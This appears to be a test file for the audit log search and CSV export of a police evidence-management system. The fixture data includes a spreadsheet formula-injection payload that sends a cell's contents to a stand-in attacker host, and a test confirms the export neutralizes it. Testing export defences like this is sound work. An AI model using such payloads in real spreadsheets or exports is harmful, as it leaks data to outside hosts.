import { join } from 'node:path';
import { readFile } from 'node:fs/promises';
import { beforeAll, describe, expect, it } from 'vitest';
import { writeCheckpoints } from '../../core/checkpoints';
import { ACTION_LABELS_ZH } from '../../core/labels';
import { loadOrCreateSigningKey } from '../../core/signing-key';
import { runEvidence } from '../support/evidence-process';
import { bearer, usePlatform } from '../support/platform';
import { addPlayableCopy } from '../support/playable';
import { useWorld } from '../support/seed';
import { builtInTimestamps } from '../support/timestamp-fixtures';

const p = usePlatform({ listen: true });
const w = useWorld(p);

type Row = { seq: number; action: string; actorName: string; actorDisplayName: string | null; actorOfficerNo: string | null; objectId: string | null; unitId: string | null; outcome: string };
const search = async (token: string, query: Record<string, string>) => {
  const res = await p.app.inject({ url: `/api/audit?${new URLSearchParams(query)}`, headers: bearer(token) });
  expect(res.statusCode, res.body).toBe(200);
  return res.json() as { items: Row[]; nextBefore: number | null };
};
const csv = (token: string, query: Record<string, string>) => p.app.inject({ url: `/api/audit.csv?${new URLSearchParams(query)}`, headers: bearer(token) });
/** The CSV's records (RFC 4180, quoted cells may hold commas and quotes). */
function records(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\n') row.push(cell.replace(/\r$/, '')), rows.push(row), (row = []), (cell = '');
    else cell += c;
  }
  return rows;
}

let officerNo: string;
beforeAll(async () => {
  officerNo = (await p.db.selectFrom('users').select('officer_no').where('id', '=', w.users.handlerA!).executeTakeFirstOrThrow()).officer_no!;
  await p.ownerDb.updateTable('users').set({ display_name: '李娜' }).where('id', '=', w.users.handlerA!).execute();
  // An administrator typed a name a spreadsheet would run as a formula.
  await p.ownerDb.updateTable('users').set({ display_name: '=HYPERLINK("http://evil.example/?x="&A1,"点此")' }).where('id', '=', w.users.handlerA2!).execute();
  const watch = await addPlayableCopy(p, w.evidence.a);
  expect((await p.app.inject({ url: watch, headers: bearer(w.tokens.handlerA) })).statusCode).toBe(200);
  await p.app.inject({ url: `/api/evidence/${w.evidence.a2}`, headers: bearer(w.tokens.handlerA2) });
  await p.app.inject({ url: `/api/evidence/${w.evidence.b}`, headers: bearer(w.tokens.handlerB) });
});

describe('GET /api/audit filters', () => {
  it('finds who watched a clip, by object and action, naming them by display name and 警号', async () => {
    const { items } = await search(w.tokens.auditor, { objectId: w.evidence.a, action: 'evidence.view' });
    expect(items).toEqual([expect.objectContaining({ action: 'evidence.view', objectId: w.evidence.a, actorDisplayName: '李娜', actorOfficerNo: officerNo, outcome: 'allowed' })]);
  });

  it('finds a person by part of the display name or by 警号, and a unit by what its staff did or what was about it', async () => {
    for (const person of ['李', officerNo]) {
      const { items } = await search(w.tokens.auditor, { person });
      expect(items.length).toBeGreaterThan(0);
      expect(new Set(items.map((e) => e.actorDisplayName))).toEqual(new Set(['李娜']));
    }
    // % and _ are letters here, not wildcards
    expect((await search(w.tokens.auditor, { person: '%' })).items).toEqual([]);
    const unitB = (await search(w.tokens.auditor, { unitId: w.units.b, action: 'evidence.read' })).items;
    expect(unitB.map((e) => e.objectId)).toEqual([w.evidence.b]);
  });

  it('pages by keyset with the filters kept', async () => {
    const first = await search(w.tokens.auditor, { action: 'evidence.read', limit: '1' });
    expect(first.items).toHaveLength(1);
    const second = await search(w.tokens.auditor, { action: 'evidence.read', limit: '1', before: String(first.nextBefore) });
    expect(second.items).toHaveLength(1);
    expect(second.items[0]!.seq).toBeLessThan(first.items[0]!.seq);
    expect(second.items[0]!.action).toBe('evidence.read');
  });

  it('a unit head sees only rows by or about their unit, whatever they filter by', async () => {
    const own = await search(w.tokens.unitHeadA, { action: 'evidence.read' });
    expect(own.items.map((e) => e.objectId).sort()).toEqual([w.evidence.a2]);
    expect((await search(w.tokens.unitHeadA, { unitId: w.units.b })).items).toEqual([]);
    expect((await search(w.tokens.unitHeadA, { objectId: w.evidence.b })).items).toEqual([]);
    expect((await p.app.inject({ url: '/api/audit', headers: bearer(w.tokens.handlerA) })).statusCode).toBe(403);
  });
});

describe('action labels', () => {
  it('every audited route and system event has a Chinese label for the page and the CSV', () => {
    const audited = [...new Set(p.app.declaredRoutes.flatMap((r) => (r.audit ? [r.audit] : [])))];
    const system = ['user.locked', 'fixity.failed', 'checkpoint.refused', 'retention.disposed'];
    expect(audited.length).toBeGreaterThan(40);
    expect([...audited, ...system].filter((a) => !(`action.${a}` in ACTION_LABELS_ZH))).toEqual([]);
  });
});

describe('GET /api/audit.csv', () => {
  it('is UTF-8 with a byte order mark and Chinese headers, people by name and 警号, actions in Chinese, and it is audited', async () => {
    const res = await csv(w.tokens.auditor, { objectId: w.evidence.a, action: 'evidence.view' });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toContain('attachment');
    expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [head, ...rows] = records(res.rawPayload.toString('utf8').slice(1));
    expect(head).toEqual(['序号', '时间（北京时间）', '操作人', '角色', '操作', '操作代码', '对象类型', '对象标识', '来源地址', '结果', '详情', '记录哈希']);
    expect(rows).toHaveLength(1);
    expect(rows[0]!.slice(2, 6)).toEqual([`李娜（警号 ${officerNo}）`, '办案人员', '观看视频', 'evidence.view']);
    expect(rows[0]![7]).toBe(w.evidence.a);
    expect(rows[0]![9]).toBe('允许');
    expect(rows[0]![1]).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);

    const { items } = await search(w.tokens.auditor, { action: 'audit.export' });
    expect(items[0]).toMatchObject({ actorName: expect.stringContaining('auditor'), outcome: 'allowed', details: { filters: { objectId: w.evidence.a, action: 'evidence.view' } } });
  });

  it('neutralizes cells a spreadsheet would run as formulas', async () => {
    const res = await csv(w.tokens.auditor, { objectId: w.evidence.a2, action: 'evidence.read' });
    const [, row] = records(res.rawPayload.toString('utf8').slice(1));
    expect(row![2]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"点此")（警号 ${(await p.db.selectFrom('users').select('officer_no').where('id', '=', w.users.handlerA2!).executeTakeFirstOrThrow()).officer_no}）`);
    for (const cells of records(res.rawPayload.toString('utf8').slice(1))) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it("exports every matching row, past one batch of 500, and a unit head's export holds only their unit's rows", async () => {
    for (let i = 0; i < 26; i++) {
      await Promise.all(Array.from({ length: 20 }, () => p.app.inject({ url: `/api/evidence/${w.evidence.a}`, headers: bearer(w.tokens.handlerA) })));
    }
    const all = (await search(w.tokens.auditor, { limit: '1000' })).items.map((e) => String(e.seq));
    expect(all.length).toBeGreaterThan(520);
    const rows = records((await csv(w.tokens.auditor, {})).rawPayload.toString('utf8').slice(1)).slice(1);
    // the search's own event, written after it answered, is the newest row; the export's own comes after the file
    expect(rows.map((r) => r[0]).slice(1)).toEqual(all);
    const headRows = records((await csv(w.tokens.unitHeadA, {})).rawPayload.toString('utf8').slice(1)).slice(1);
    expect(headRows.length).toBeGreaterThan(0);
    expect(headRows.map((r) => r[7])).not.toContain(w.evidence.b);
    expect(headRows.map((r) => r[2]).join()).not.toContain('handlerB');
    expect((await csv(w.tokens.handlerA, {})).statusCode).toBe(403);
  });
});

describe('GET /api/audit/checkpoint', () => {
  it('says there is none yet, then names the newest signed checkpoint with its algorithms', async () => {
    const before = await p.app.inject({ url: '/api/audit/checkpoint', headers: bearer(w.tokens.auditor) });
    expect(before.json()).toEqual({ chain: 'audit', checkpoint: null });
    const { client } = await builtInTimestamps(join(p.scratch, 'tsa'));
    const signingKey = await loadOrCreateSigningKey(join(p.dir, 'keys'));
    await writeCheckpoints({ db: p.db, store: p.store, signingKey, timestamps: client, now: () => new Date('2026-11-26T08:00:00Z') });
    const after = (await p.app.inject({ url: '/api/audit/checkpoint', headers: bearer(w.tokens.auditor) })).json();
    expect(after).toEqual({ chain: 'audit', checkpoint: { seq: expect.any(Number), at: '2026-11-26T08:00:00.000Z', algorithms: ['Ed25519', 'SM2'] } });
    expect((await p.app.inject({ url: '/api/audit/checkpoint', headers: bearer(w.tokens.unitHeadA) })).statusCode).toBe(403);
  });
});

describe('export cover sheet', () => {
  it('names who exported by display name and 警号, and their role in Chinese', async () => {
    await p.app.inject({ method: 'POST', url: `/api/cases/${w.cases.a}/evidence`, headers: bearer(w.tokens.handlerA), payload: { evidenceId: w.evidence.a } });
    const out = join(p.scratch, 'package');
    const exported = await runEvidence(['export', '--server', p.url, '--token', w.tokens.handlerA, '--case', w.cases.a, '--reason', '法院调取', '--out', out]);
    expect(exported.code, exported.stderr).toBe(0);
    const sheet = await readFile(join(out, 'index.html'), 'utf8');
    expect(sheet).toContain(`李娜（警号 ${officerNo}），办案人员`);
    expect(JSON.parse(await readFile(join(out, 'manifest.json'), 'utf8')).exporter).toEqual({ name: `李娜（警号 ${officerNo}）`, role: 'handler' });
  });
});
